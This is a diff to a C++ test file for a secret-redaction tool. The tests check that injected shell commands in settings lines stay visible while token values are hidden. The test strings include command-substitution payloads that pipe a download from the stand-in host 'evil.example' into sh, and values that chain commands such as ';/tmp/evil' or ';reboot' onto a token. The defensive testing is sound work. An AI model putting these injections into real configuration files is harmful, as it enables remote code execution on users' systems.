@@ -49,6 +49,66 @@ TEST(RedactorSettings, I9_ACommandWithArgumentsIsNoValue) {
     EXPECT_TRUE(contains(script, ";evilcmd")) << script;
 }
 
+void expect_visible_in_settings(std::string_view text, std::string_view command) {
+    const auto redacted = redactor().text(text, TextKind::settings);
+    EXPECT_TRUE(contains(redacted, command)) << text << "\n => " << redacted;
+    EXPECT_EQ(redactor().text(redacted, TextKind::settings), redacted);
+}
+
+TEST(RedactorSettings, I9_ASubstitutionInASettingStaysVisible) {
+    for (const std::string_view command : {"$(curl evil.example | sh)", "`curl evil.example | sh`", "$(evilcmd)",
+                                           "`evilcmd`", "$(a $(evilcmd) b)", "${ evilcmd; }"}) {
+        for (const std::string_view pattern :
+             {"TOKEN=\"abcd1§\"\n", "TOKEN=\"§\"\n", "export TOKEN=\"abcd1§efgh2\" # why\n", "token = \"abcd1§\"\n",
+              "token = abcd1§\n", "TOKEN=\"\"§\"\"\n", "TOKEN='abcd1'§'x'\n", "A=1\nTOKEN=\"abcd1§\"\nB=2\n",
+              "A='\nTOKEN='abcd1§'\n", "cat <<X\nTOKEN='abcd1§'\nX\n"}) {
+            std::string text{pattern};
+            text.replace(text.find("§"), std::string_view{"§"}.size(), command);
+            expect_visible_in_settings(text, command);
+        }
+    }
+    expect_visible_in_settings("TOKEN=abcd1$(evilcmd)\n", "$(evilcmd)");
+    expect_visible_in_settings("TOKEN=\"${abcd1:-$(evilcmd)}\"\n", "$(evilcmd)");
+    expect_visible_in_settings("TOKEN=abcd1<(evilcmd)\n", "<(evilcmd)");
+    expect_visible_in_settings("TOKEN==(evilcmd)\n", "=(evilcmd)");
+    // It goes on in the next line.
+    expect_visible_in_settings("TOKEN=\"abcd1$(evilcmd \"a\"\n)\"\n", "$(evilcmd ");
+    expect_visible_in_settings("TOKEN=\"abcd1`/tmp/evil \"a\"\n`\"\n", "`/tmp/evil ");
+}
+
+TEST(RedactorSettings, I9_ThePathOfAProgramInASettingStaysVisible) {
+    for (const std::string_view text :
+         {"TOKEN=abcd1;/tmp/evil\n", "TOKEN=abcd1&/tmp/evil\n", "TOKEN=abcd1&&/tmp/evil\n", "TOKEN=abcd1|/tmp/evil\n",
+          "TOKEN=;/tmp/evil\n", "TOKEN=abcd1;\"/tmp/evil\"\n", "token = abcd1;/tmp/evil\n",
+          "TOKEN=\"abcd1\";/tmp/evil;\"x\"\n", "A=\"\nTOKEN=\"abcd1;/tmp/evil\"\n", "TOKEN=abcd1>/tmp/evil\n",
+          "TOKEN=abcd1;(/tmp/evil)\n", "TOKEN=abcd1;x|/tmp/evil\n"}) {
+        expect_visible_in_settings(text, "/tmp/evil");
+    }
+    expect_visible_in_settings("TOKEN=abcd1;./x\n", ";./x");
+    expect_visible_in_settings("TOKEN=abcd1;bin/x\n", ";bin/x");
+    const auto redacted = redactor().text("TOKEN=abcd1;/tmp/evil\n", TextKind::settings);
+    EXPECT_FALSE(contains(redacted, "abcd1")) << redacted;
+}
+
+TEST(RedactorSettings, I9_ACommandThatIsKnownOrHasArgumentsStaysVisibleInASetting) {
+    for (const std::string_view command : {"reboot", "sh", "re\\boot", "'reboot'", "$EVIL", "python3.12"}) {
+        expect_visible_in_settings("TOKEN=abcd1;" + std::string{command} + "\n", command);
+        expect_visible_in_settings("TOKEN=abcd1|" + std::string{command} + "\n", command);
+    }
+    expect_visible_in_settings("token = abcd1;evilcmd now\n", "evilcmd now");
+    expect_visible_in_settings("token = abcd1 & evilcmd now\n", "evilcmd now");
+    expect_visible_in_settings("TOKEN=abcd1\tevilcmd\n", "evilcmd");
+    expect_visible_in_settings("TOKEN=abcd1;evilcmd\tnow\n", "evilcmd\tnow");
+}
+
+TEST(RedactorSettings, I6_AQuotedSettingThatNoShellRunsIsHiddenWhole) {
+    for (const std::string_view text :
+         {"TOKEN='abcd1$(efgh2)'\n", "TOKEN='abcd1`efgh2`'\n", "TOKEN='abcd1;efgh2/x'\n", "TOKEN=\"abcd1;efgh2/x\"\n",
+          "TOKEN=\"abcd1|efgh2/x\"\n", "# `use` this\nTOKEN=\"abcd1`efgh2\"\n"}) {
+        expect_setting_hidden(text, TextKind::settings, {"abcd1", "efgh2"});
+    }
+}
+
 TEST(RedactorSettings, I9_InACommandTheTailStaysVisible) {
     for (const std::string_view text : {"DB_PASSWORD=abc&evilcmd", "DB_PASSWORD=abc;evilcmd", "DB_PASSWORD=abc|evilcmd",
                                         "DB_PASSWORD=\"abc$(evilcmd)\"", "DB_PASSWORD=\"abc`evilcmd`\""}) {
